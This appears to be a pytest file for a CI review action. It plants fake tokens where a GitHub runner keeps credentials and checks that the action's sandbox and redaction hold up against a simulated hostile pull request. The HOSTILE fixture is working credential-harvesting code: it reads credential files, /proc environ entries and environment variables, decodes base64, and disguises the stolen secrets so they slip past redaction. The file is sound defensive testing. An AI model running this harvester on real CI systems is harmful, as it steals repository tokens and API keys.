"""A hostile pull request against `codegrad action`: fake secrets planted where a runner keeps them
(the checkout's .git/config, HOME, RUNNER_TEMP, the event file, /dev/shm, /tmp, the environment); the
PR's code and tests read every place and send what they find back reversed, hex-encoded and dashed."""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from importlib import metadata
from pathlib import Path

import pytest

from codegrad.verify import sandbox
from fakes.github_server import FakeGitHub
from helpers_git import GitRepo, make_repo

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="the sandbox targets Linux"
)

NAMESPACES = sandbox.isolation().level == "namespaces"
REPO = "octo/shapes"
NUMBER = 5

BASE = '''def double(x):
    """Twice x.

    >>> double(2)
    4
    """
    return x * 2
'''

# The PR: double() and its test look everywhere a runner keeps credentials, decode base64 (how
# actions/checkout saves the token), and return whatever looks like a secret, disguised.
HOSTILE = '''import base64, os, re

PLACES = {places!r}
MARKER = {marker!r}


def _steal():
    found = []
    for path in PLACES:
        try:
            with open(path, "rb") as f:
                found.append(f.read().decode("utf-8", "replace"))
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/environ" % pid, "rb") as f:
                    found.append(f.read().replace(b"\\0", b"\\n").decode("utf-8", "replace"))
            except OSError:
                pass
    found.append("\\n".join("%s=%s" % kv for kv in os.environ.items()))
    text = "\\n".join(found)
    for word in re.findall(r"[A-Za-z0-9+/=]{{20,}}", text):
        try:
            text += "\\n" + base64.b64decode(word).decode()
        except Exception:
            pass
    try:  # proof of running where the host's files are reachable
        with open(MARKER, "a") as f:
            f.write("ran\\n")
    except OSError:
        pass
    found = set(re.findall(r"(?:ghs_|sk-|S3CR3T)[A-Za-z0-9_-]{{6,}}", text))
    return sorted(found, key=lambda s: (not s.startswith("ghs_"), s))  # the token first


def disguised():
    stolen = _steal()
    forms = [" ".join([s[::-1], s.encode().hex(), "-".join(s)]) for s in stolen]
    return "found=%d %s" % (len(stolen), " | ".join(forms))


def double(x):
    """Twice x.

    >>> double(2)
    4
    """
    return disguised()
'''

HOSTILE_TEST = """from shapes import disguised, double


def test_double():
    assert double(3) == 6, disguised()
"""


def _forms(secret: str) -> list[str]:
    raw = secret.encode()
    return [
        secret,
        secret[::-1],
        raw.hex(),
        raw.hex().upper(),
        "-".join(secret),
        "-".join(secret[::-1]),
        base64.b64encode(raw).decode(),
    ]


@dataclass
class Run:
    code: int
    out: str
    summary: str
    outputs: str
    reports: dict[str, str]


@dataclass
class Runner:
    """A GitHub runner's layout in a temp dir, with fake secrets in the usual places."""

    root: Path
    repo: GitRepo
    base: str
    fake: FakeGitHub
    token: str
    key: str
    planted: dict[str, str]  # where -> the secret in the file there
    marker: Path

    @property
    def temp(self) -> Path:
        return self.root / "work" / "_temp"

    def pull(self) -> str:
        places = [str(self.repo.path / ".git" / "config"), *self.planted]
        self.repo.git("checkout", "-q", "-B", "feature", self.base)
        self.repo.write("shapes.py", HOSTILE.format(places=places, marker=str(self.marker)))
        self.repo.write("tests/test_shapes.py", HOSTILE_TEST)
        head = self.repo.commit("faster double")
        files = []
        for path in ("shapes.py", "tests/test_shapes.py"):
            diff = self.repo.git("diff", self.base, head, "--", path).splitlines()
            start = next(i for i, line in enumerate(diff) if line.startswith("@@"))
            files.append((path, "\n".join(diff[start:])))
        self.fake.add_pull(
            REPO, NUMBER, base_sha=self.base, head_sha=head, files=files, commits=[(head, "x")]
        )
        self.repo.git("checkout", "-q", "--detach", head)
        return head

    def run(self, head: str, **extra: str) -> Run:
        event = {
            "action": "synchronize",
            "planted": self.planted[str(self.temp / "_github_workflow" / "event.json")],
            "pull_request": {
                "number": NUMBER,
                "user": {"login": "mallory"},
                "head": {"sha": head, "ref": "feature", "repo": {"full_name": REPO}},
                "base": {
                    "sha": self.base,
                    "ref": "main",
                    "repo": {"full_name": REPO, "default_branch": "main"},
                },
            },
            "sender": {"login": "mallory", "type": "User"},
        }
        event_path = self.temp / "_github_workflow" / "event.json"
        event_path.write_text(json.dumps(event))
        for name in ("output", "summary.md"):
            (self.temp / "_runner_file_commands").mkdir(exist_ok=True)
            (self.temp / "_runner_file_commands" / name).write_text("")
        env = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith(("GITHUB_", "INPUT_", "CODEGRAD_", "OPENAI_", "RUNNER_"))
        }
        env.update(
            {
                "HOME": str(self.root / "home" / "runner"),
                "GITHUB_EVENT_NAME": "pull_request",
                "GITHUB_EVENT_PATH": str(event_path),
                "GITHUB_REPOSITORY": REPO,
                "GITHUB_API_URL": self.fake.url,
                "GITHUB_SERVER_URL": "https://github.example",
                "GITHUB_WORKSPACE": str(self.repo.path),
                "GITHUB_RUN_ID": "88",
                "GITHUB_OUTPUT": str(self.temp / "_runner_file_commands" / "output"),
                "GITHUB_STEP_SUMMARY": str(self.temp / "_runner_file_commands" / "summary.md"),
                "RUNNER_TEMP": str(self.temp),
                "INPUT_GITHUB-TOKEN": self.token,
                "INPUT_OPENAI-API-KEY": self.key,
                "INPUT_AUTO-FIX": "off",
                "CODEGRAD_CHECKS": "docstrings,project-tests",
                "CODEGRAD_BUDGET_SECONDS": "150",
                "DEPLOY_KEY": self.key,  # a secret in the job's environment too
                **extra,
            }
        )
        proc = subprocess.run(
            [sys.executable, "-m", "codegrad", "action"],
            cwd=self.repo.path,
            env=env,
            capture_output=True,
            text=True,
            timeout=280,
        )
        report_dir = self.temp / "codegrad-report"
        reports = (
            {p.name: p.read_text(errors="replace") for p in report_dir.iterdir()}
            if report_dir.is_dir()
            else {}
        )
        commands = self.temp / "_runner_file_commands"
        return Run(
            proc.returncode,
            proc.stdout + proc.stderr,
            (commands / "summary.md").read_text(),
            (commands / "output").read_text(),
            reports,
        )

    def published(self, run: Run) -> str:
        return "\n".join(
            [run.out, run.summary, run.outputs, *run.reports.values(), *self.fake.bodies()]
        )


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[Runner]:
    root = tmp_path / "runner"
    token = "ghs_" + secrets.token_hex(18)
    key = "sk-" + secrets.token_hex(20)
    git = make_repo(root / "work" / "shapes", "shapes")
    git.write("shapes.py", BASE)
    base = git.commit("base")
    # what actions/checkout leaves behind with persist-credentials (the default)
    header = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    git.git("config", "http.https://github.example/.extraheader", f"AUTHORIZATION: basic {header}")
    temp = root / "work" / "_temp"
    (temp / "_github_workflow").mkdir(parents=True)
    home = root / "home" / "runner"
    home.mkdir(parents=True)
    shm = Path("/dev/shm") / f"planted-{secrets.token_hex(6)}"
    planted = {
        str(home / ".git-credentials"): "S3CR3T" + secrets.token_hex(10),
        str(temp / "git-credentials-1234.config"): "S3CR3T" + secrets.token_hex(10),
        str(temp / "_github_workflow" / "event.json"): "S3CR3T" + secrets.token_hex(10),
        str(tmp_path / "tmp-secret.txt"): "S3CR3T" + secrets.token_hex(10),
        str(shm): "S3CR3T" + secrets.token_hex(10),
    }
    for path, secret in planted.items():
        if not path.endswith("event.json"):  # the run writes the event, with its secret
            Path(path).write_text(f"https://x:{secret}@github.example\n")
    with FakeGitHub() as fake:
        fake.add_token(token)
        try:
            yield Runner(root, git, base, fake, token, key, planted, tmp_path / "marker")
        finally:
            shm.unlink(missing_ok=True)


@pytest.mark.skipif(not NAMESPACES, reason=f"no namespaces here: {sandbox.isolation().reason}")
def test_the_hostile_pr_finds_no_secret_and_the_review_still_fails_it(runner: Runner) -> None:
    head = runner.pull()

    run = runner.run(head)

    assert run.code == 1, run.out  # reviewed, not silenced: its double() is wrong
    bodies = "\n".join(runner.fake.bodies())
    assert "double(2)" in bodies and "found=0" in bodies, bodies  # it looked, and found nothing
    assert not runner.marker.exists()  # it never ran where the host's files are
    published = runner.published(run)
    assert run.reports and "found=0" in run.reports["report.json"]
    for secret in (runner.token, runner.key, *runner.planted.values()):
        for form in _forms(secret):
            assert form not in published, form


def test_without_namespaces_the_action_refuses_to_run_the_pr(runner: Runner) -> None:
    head = runner.pull()

    run = runner.run(head, CODEGRAD_NO_UNSHARE="1")

    assert run.code == 2, run.out
    assert (
        "::error::codegrad: refusing to run the project's code at sandbox isolation 'none'"
        in run.out
    )
    assert "isolation: allow-weak" in run.out
    assert not runner.marker.exists()  # the PR's code never ran
    assert runner.fake.writes == []  # nothing posted
    for secret in (runner.token, runner.key):
        assert all(form not in run.out for form in _forms(secret))


def test_allow_weak_runs_it_and_redaction_still_catches_known_secrets_in_disguise(
    runner: Runner,
) -> None:
    head = runner.pull()

    run = runner.run(head, CODEGRAD_NO_UNSHARE="1", **{"INPUT_ISOLATION": "allow-weak"})

    assert run.code == 1, run.out
    assert runner.marker.exists()  # weak isolation: the PR's code could reach the host's files ...
    bodies = "\n".join(runner.fake.bodies())
    assert "found=" in bodies and "found=0" not in bodies  # ... and did find the token
    published = runner.published(run)
    for secret in (runner.token, runner.key):  # known to codegrad: redacted in every disguise
        for form in _forms(secret):
            assert form not in published, form
    assert "***" in bodies


def _closure(names: list[str]) -> list[metadata.Distribution]:
    """These installed distributions and everything they require (extras left out)."""
    found: dict[str, metadata.Distribution] = {}
    todo = list(names)
    while todo:
        try:
            dist = metadata.distribution(todo.pop())
        except metadata.PackageNotFoundError:
            continue  # a requirement for another Python version
        name = dist.metadata["Name"].lower()
        if name not in found:
            found[name] = dist
            requires = [r for r in dist.requires or () if "extra ==" not in r]
            todo += [re.split(r"[\s;<>=!~\[(]", r, maxsplit=1)[0] for r in requires]
    return list(found.values())


def _project_venv(folder: Path, marker: Path) -> Path:
    """A project environment apart from codegrad's: its own interpreter with copies of pytest,
    hypothesis and coverage, and a .pth file that reports when it runs outside the sandbox."""
    base = getattr(sys, "_base_executable", sys.executable)
    subprocess.run([base, "-m", "venv", "--without-pip", str(folder)], check=True, timeout=120)
    python = folder / "bin" / "python"
    site = subprocess.run(
        [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    for dist in _closure(["pytest", "hypothesis", "coverage"]):
        for file in dist.files or ():
            source, target = Path(str(dist.locate_file(file))), Path(site) / file
            if ".." not in file.parts and source.is_file() and "__pycache__" not in file.parts:
                target.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(source, target)
    report = f"open({str(marker)!r}, 'a').write('pth ran, token held: %s' % ('INPUT_GITHUB-TOKEN' in os.environ))"
    guarded = "try:\n " + report + "\nexcept OSError: pass"
    (Path(site) / "zz_project.pth").write_text(f"import os; exec({guarded!r})\n")
    return python


def test_the_project_python_runs_the_tests_and_never_codegrads_process(
    runner: Runner, tmp_path: Path
) -> None:
    pth_marker = tmp_path / "pth-ran"
    python = _project_venv(tmp_path / "project-venv", pth_marker)
    pth_marker.unlink(missing_ok=True)
    subprocess.run([str(python), "-c", "pass"], check=True)  # control: the .pth does run ...
    assert pth_marker.read_text().startswith("pth ran, token held: False")
    pth_marker.unlink()
    runner.repo.git("checkout", "-q", "-B", "feature", runner.base)
    runner.repo.write("shapes.py", BASE.replace("return x * 2", "return x * 2 + (x == 2)"))
    runner.repo.write(
        "tests/test_shapes.py",
        "import sys\nfrom shapes import double\n\n\ndef test_on_the_projects_python():\n"
        f"    assert sys.prefix == {str(tmp_path / 'project-venv')!r}, sys.prefix\n"
        "    assert double(3) == 6\n",
    )
    head = runner.repo.commit("tweak")
    diffs = []
    for path in ("shapes.py", "tests/test_shapes.py"):
        diff = runner.repo.git("diff", runner.base, head, "--", path).splitlines()
        diffs.append(
            (
                path,
                "\n".join(diff[next(i for i, line in enumerate(diff) if line.startswith("@@")) :]),
            )
        )
    runner.fake.add_pull(
        REPO, NUMBER, base_sha=runner.base, head_sha=head, files=diffs, commits=[(head, "x")]
    )
    runner.repo.git("checkout", "-q", "--detach", head)

    run = runner.run(head, INPUT_PYTHON=str(python))

    assert run.code == 1, run.out
    report = json.loads(run.reports["report.json"])
    findings = report["findings"]
    assert [(f["check"], f["function"]) for f in findings] == [("docstrings", "double")]
    stats = {c["check"]: c["stats"] for c in report["checks"]}
    assert stats["project-tests"]["passed"] == 1  # sys.prefix was the project's venv
    assert not pth_marker.exists()  # ... and its .pth never ran outside the sandbox
